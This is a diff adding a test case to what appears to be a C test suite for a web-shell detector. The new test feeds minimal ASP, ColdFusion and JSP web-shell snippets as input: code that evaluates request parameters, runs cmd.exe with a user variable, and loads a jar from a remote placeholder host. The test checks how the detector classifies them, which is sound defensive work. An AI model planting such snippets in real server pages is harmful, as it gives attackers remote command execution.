@@ -401,6 +401,25 @@ static void settings_that_are_written_to_a_page_are_no_shell(void)
          "Evaluates", "");
 }
 
+static void tables_of_functions_and_loose_variables_are_followed(void)
+{
+    says("a.asp",
+         "<%@ Language=\"JScript\" %><% var t = {'n' : Request.form('q'), 'e' : " EVALUATES
+         "}; t.e((t.n) + ''); %>",
+         "Evaluates", "parameter q");
+    says("a.asp",
+         "<%set s=server.createObject(\"ScriptControl\")\ns.AddObject \"r\", Request\n"
+         "s.AddCode r(\"z\")%>",
+         "EvaluatesParameter", "z");
+    says("a.cfm", "<cfexecute name=\"cmd.exe\" arguments=\"/c #cmd#\"></cfexecute>", "Executes",
+         "variable cmd");
+    says("a.cfm",
+         "<cfset cmd=\"date\"><cfexecute name=\"cmd.exe\" arguments=\"/c #cmd#\"></cfexecute>",
+         "Executes", "");
+    says("a.jsp", "<% new URLClassLoader(new URL[]{new URL(\"http://h/e.jar\")}); %>", "Loads",
+         "remote");
+}
+
 int main(void)
 {
     RUN(a_parameter_is_followed_to_the_evaluator_of_each_language);
@@ -427,6 +446,7 @@ int main(void)
     RUN(numbers_and_flags_are_read_as_the_language_reads_them);
     RUN(the_noise_of_an_image_is_no_code);
     RUN(settings_that_are_written_to_a_page_are_no_shell);
+    RUN(tables_of_functions_and_loose_variables_are_followed);
     RUN(deep_code_ends);
     return kit_end();
 }
